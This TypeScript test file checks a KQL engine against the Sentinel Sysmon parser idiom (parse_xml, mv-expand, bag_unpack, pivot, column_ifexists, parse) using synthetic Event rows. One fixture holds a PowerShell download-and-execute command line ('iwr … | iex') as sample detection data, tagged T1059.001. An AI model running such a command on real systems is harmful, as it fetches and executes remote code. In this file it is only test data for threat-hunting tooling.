/**
 * The Sentinel Sysmon parser idiom over Log Analytics' Event table: parse_xml of the agent's
 * EventData, mv-expand of its Data elements, bag_unpack into '@Name' / '#text' columns, pivot of
 * the names into columns, then column_ifexists and parse over the pivoted columns. Each expected
 * value is derived by hand from the pages: parse_xml (attributes as "@name", element text as
 * "#text", repeated elements as an array), mv-expand (one row per element), bag_unpack (one column
 * per distinct slot, typed by its values), pivot (one column per distinct value, the aggregate over
 * the rows of each combination), column_ifexists (the column when it exists), parse (the captures,
 * empty when the pattern does not match). The Event rows are a datatable with the documented MG
 * column, so the test does not depend on the lab's Event columns.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createNodeEngine } from '../../src/engine/node.ts';
import type { Engine } from '../../src/engine/types.ts';
import { compilePasses, runKqlPasses } from './helpers.ts';

let engine: Engine;
beforeAll(async () => {
  engine = await createNodeEngine();
});
afterAll(async () => {
  await engine?.close();
});

const xmlOf = (time: string, fields: [string, string][]) =>
  `<DataItem type="System.XmlData" time="${time}" sourceHealthServiceId="6f1c2a4e-3b5d-4c7e-9f80-1a2b3c4d5e6f"><EventData xmlns="http://schemas.microsoft.com/win/2004/08/events/event">${fields
    .map(([k, v]) => `<Data Name="${k}">${v.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;')}</Data>`)
    .join('')}</EventData></DataItem>`;

const kql = (s: string) => JSON.stringify(s);

const A = xmlOf('2024-05-19T10:00:01.0000000Z', [
  ['RuleName', 'technique_id=T1059.001,technique_name=PowerShell'],
  ['UtcTime', '2024-05-19 10:00:01.125'],
  ['ProcessId', '4228'],
  ['Image', 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe'],
  ['CommandLine', 'powershell.exe -nop -c "iwr https://cdn.example.net/a.ps1 | iex"'],
]);
const B = xmlOf('2024-05-19T11:00:02.0000000Z', [
  ['RuleName', '-'],
  ['UtcTime', '2024-05-19 11:00:02.500'],
  ['ProcessId', '512'],
  ['Image', 'C:\\Windows\\System32\\shutdown.exe'],
  ['CommandLine', 'shutdown.exe /r /t 0'],
]);
// A Sysmon network connection (event 3) and a System-log event: the idiom's `where` leaves them out.
const C = xmlOf('2024-05-19T10:30:00.0000000Z', [
  ['RuleName', '-'],
  ['ProcessId', '4228'],
  ['DestinationIp', '203.0.113.7'],
]);

const EVENT = `let Event = datatable(TimeGenerated:datetime, Source:string, EventLog:string, Computer:string, EventLevel:int, EventLevelName:string, EventID:int, UserName:string, RenderedDescription:string, MG:string, ManagementGroupName:string, Type:string, _ResourceId:string, EventData:string)[
  datetime(2024-05-19 10:00:01), "Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational", "ws01.contoso.com", 4, "Information", 1, "NT AUTHORITY\\\\SYSTEM", "Process Create:", "00000000-0000-0000-0000-000000000002", "AOI-1", "Event", "", ${kql(A)},
  datetime(2024-05-19 11:00:02), "Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational", "srv02.contoso.com", 4, "Information", 1, "NT AUTHORITY\\\\SYSTEM", "Process Create:", "00000000-0000-0000-0000-000000000002", "AOI-1", "Event", "", ${kql(B)},
  datetime(2024-05-19 10:30:00), "Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational", "ws01.contoso.com", 4, "Information", 3, "NT AUTHORITY\\\\SYSTEM", "Network connection detected:", "00000000-0000-0000-0000-000000000002", "AOI-1", "Event", "", ${kql(C)},
  datetime(2024-05-19 12:00:00), "Service Control Manager", "System", "srv02.contoso.com", 4, "Information", 7036, "", "The Windows Update service entered the running state.", "00000000-0000-0000-0000-000000000002", "AOI-1", "Event", "", '<DataItem type="System.XmlData"><EventData xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><Data Name="param1">Windows Update</Data></EventData></DataItem>'];
`;

const IDIOM = `${EVENT}Event
| where Source == "Microsoft-Windows-Sysmon" and EventID == 1
| extend RenderedDescription = tostring(split(RenderedDescription, ":")[0])
| extend EventData = parse_xml(EventData).DataItem.EventData.Data
| mv-expand bagexpansion=array EventData
| evaluate bag_unpack(EventData)
| extend Key=tostring(['@Name']), Value=['#text']
| evaluate pivot(Key, any(Value), TimeGenerated, Source, EventLog, Computer, EventLevel, EventLevelName, EventID, UserName, RenderedDescription, MG, ManagementGroupName, Type, _ResourceId)
| extend RuleName = column_ifexists("RuleName", ""), TechniqueId = column_ifexists("TechniqueId", ""), CommandLine = tostring(column_ifexists("CommandLine", ""))
| parse RuleName with * 'technique_id=' TechniqueId ',' * 'technique_name=' TechniqueName
| sort by TimeGenerated asc`;

const KEPT = ['TimeGenerated', 'Source', 'EventLog', 'Computer', 'EventLevel', 'EventLevelName', 'EventID', 'UserName', 'RenderedDescription', 'MG', 'ManagementGroupName', 'Type', '_ResourceId'];

describe('the Sysmon parser idiom over Event', () => {
  it('turns each Sysmon process creation into one row with its Data names as columns', async () => {
    const r = await runKqlPasses(engine, IDIOM);
    // pivot: the kept columns, then one column per distinct Data name (huntbench sorts them); extend
    // replaces RuleName and CommandLine where they stand and appends TechniqueId; parse fills
    // TechniqueId in place and appends TechniqueName.
    expect(r.columns.map((c) => c.name)).toEqual([...KEPT, 'CommandLine', 'Image', 'ProcessId', 'RuleName', 'UtcTime', 'TechniqueId', 'TechniqueName']);
    expect(r.columns.slice(KEPT.length).map((c) => c.type)).toEqual(['string', 'string', 'string', 'string', 'string', 'string', 'string']);
    const rest = (row: unknown[]) => [row[3], row[8], row[9], ...row.slice(KEPT.length)];
    expect(r.rows.map(rest)).toEqual([
      [
        'ws01.contoso.com',
        'Process Create',
        '00000000-0000-0000-0000-000000000002',
        'powershell.exe -nop -c "iwr https://cdn.example.net/a.ps1 | iex"',
        'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
        '4228',
        'technique_id=T1059.001,technique_name=PowerShell',
        '2024-05-19 10:00:01.125',
        'T1059.001',
        'PowerShell',
      ],
      // RuleName "-": the pattern does not match, so the parsed columns are empty
      ['srv02.contoso.com', 'Process Create', '00000000-0000-0000-0000-000000000002', 'shutdown.exe /r /t 0', 'C:\\Windows\\System32\\shutdown.exe', '512', '-', '2024-05-19 11:00:02.500', '', ''],
    ]);
  });

  it("reads the unpacked names with column_ifexists('@Name', …) and take_any, as the variant does", async () => {
    const q = IDIOM.replace("extend Key=tostring(['@Name']), Value=['#text']", `extend Key=column_ifexists('@Name', ""), Value=column_ifexists('#text', "")`).replace('any(Value)', 'take_any(Value)');
    const r = await runKqlPasses(engine, `${q} | project Computer, ProcessId, TechniqueName`);
    expect(r.rows).toEqual([
      ['ws01.contoso.com', '4228', 'PowerShell'],
      ['srv02.contoso.com', '512', ''],
    ]);
  });

  it('one row per Data element after mv-expand and bag_unpack, with the slots as columns', async () => {
    const q = `${EVENT}Event
      | where EventID == 1 and Computer == "srv02.contoso.com"
      | extend EventData = parse_xml(EventData).DataItem.EventData.Data
      | mv-expand bagexpansion=array EventData
      | evaluate bag_unpack(EventData)
      | project Name = ['@Name'], Text = ['#text']`;
    const r = await runKqlPasses(engine, q);
    expect(r.columns.map((c) => c.type)).toEqual(['string', 'string']);
    expect(r.rows).toEqual([
      ['RuleName', '-'],
      ['UtcTime', '2024-05-19 11:00:02.500'],
      ['ProcessId', '512'],
      ['Image', 'C:\\Windows\\System32\\shutdown.exe'],
      ['CommandLine', 'shutdown.exe /r /t 0'],
    ]);
  });

  it('a union leg that projects pivoted columns (the Sentinel hunts union Sysmon with SecurityEvent and DeviceProcessEvents)', async () => {
    // union page: the output has every column of the inputs, null where an input lacks it. The
    // analyzer cannot type Image or CommandLine (the data decides them); both inputs that have them
    // agree (string), so they are those columns.
    const sysmon = IDIOM.slice(EVENT.length).replace('| sort by TimeGenerated asc', '| where CommandLine has "shutdown" | project TimeGenerated, Computer, Image, CommandLine');
    const q = `${EVENT}union isfuzzy=true (datatable(TimeGenerated:datetime, DeviceName:string, ProcessCommandLine:string)[datetime(2024-05-19 09:00), "ws09", "shutdown /s"]), (${sysmon}) | sort by TimeGenerated asc`;
    const r = await runKqlPasses(engine, q);
    expect(r.columns.map((c) => `${c.name}:${c.type}`)).toEqual(['TimeGenerated:datetime', 'DeviceName:string', 'ProcessCommandLine:string', 'Computer:string', 'Image:string', 'CommandLine:string']);
    expect(r.rows).toEqual([
      ['2024-05-19T09:00:00Z', 'ws09', 'shutdown /s', '', '', ''],
      ['2024-05-19T11:00:02Z', '', '', 'srv02.contoso.com', 'C:\\Windows\\System32\\shutdown.exe', 'shutdown.exe /r /t 0'],
    ]);
  });

  it('column_ifexists of a pivoted dynamic column with a string default stays refused', async () => {
    // Value as a dynamic bag value: the pivoted columns are dynamic, while the analyzer types the
    // call after its default (string). The column_ifexists page says a dynamic column gives the
    // default, which the idiom's own use contradicts: refused rather than guessed.
    const q = IDIOM.replace("Value=['#text']", "Value=bag_pack('v', ['#text'])");
    const r = await compilePasses(engine, q);
    expect(r.ok).toBe(false);
    expect(r.diagnostics.map((d) => `${d.code} ${d.message}`).join('; ')).toMatch(/HB120 .*column_ifexists\(\) of column 'RuleName' typed dynamic/);
  });
});
